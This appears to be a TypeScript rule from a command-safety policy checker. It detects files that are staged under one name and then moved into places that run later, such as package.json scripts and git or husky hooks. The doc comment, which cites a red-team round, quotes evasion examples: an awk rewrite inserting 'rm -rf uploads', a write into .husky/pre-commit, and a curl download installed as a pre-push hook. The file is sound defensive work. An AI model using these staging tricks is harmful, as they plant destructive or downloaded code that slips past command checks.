import type { Analysis, Finding, Invocation, RuleContext } from '../../policy/types';
import type { Written } from './deferredPack';

/**
 * A file staged under another name and moved or copied into a place that runs it later (red team
 * round 6): `awk '{sub(/vitest run/,"rm -rf uploads")}1' package.json > p.json && mv p.json
 * package.json`, `echo '…' > /tmp/h && cp /tmp/h .husky/pre-commit`, `curl -o /tmp/x URL && install
 * /tmp/x .git/hooks/pre-push`. The move alone names a file that is not on disk yet; what an earlier
 * command of the same line wrote there (its text, or why it cannot be read: a download) is what lands,
 * and is judged as the place's content. A staged file whose text nothing says is left to the place's
 * own rule, as before.
 */
export function stagedMoves(
  analysis: Analysis,
  ctx: RuleContext,
  writesOf: (inv: Invocation) => Written[],
  judge: (w: Written, inv: Invocation) => Finding[],
): Finding[] {
  if (analysis.invocations.length < 2) return [];
  const staged = new Map<string, Written>();
  const out: Finding[] = [];
  for (const inv of analysis.invocations.slice(0, 64)) {
    if (inv.remote) continue;
    const writes = writesOf(inv);
    for (const w of writes) {
      const earlier = w.text === undefined && w.from !== undefined ? staged.get(w.from) : undefined;
      if (earlier) out.push(...judge({ path: w.path, text: earlier.text, writer: `${earlier.writer} then ${w.writer}`, from: w.from!, ...(earlier.opaque !== undefined ? { opaque: earlier.opaque } : {}) }, inv));
    }
    for (const w of writes) {
      const earlier = w.text === undefined && w.from !== undefined ? staged.get(w.from) : undefined;
      const known = earlier ?? (w.text !== undefined || w.opaque !== undefined ? w : undefined);
      if (known && staged.size < 32) staged.set(w.path, { ...known, path: w.path });
      else staged.delete(w.path);
    }
  }
  void ctx;
  return out;
}
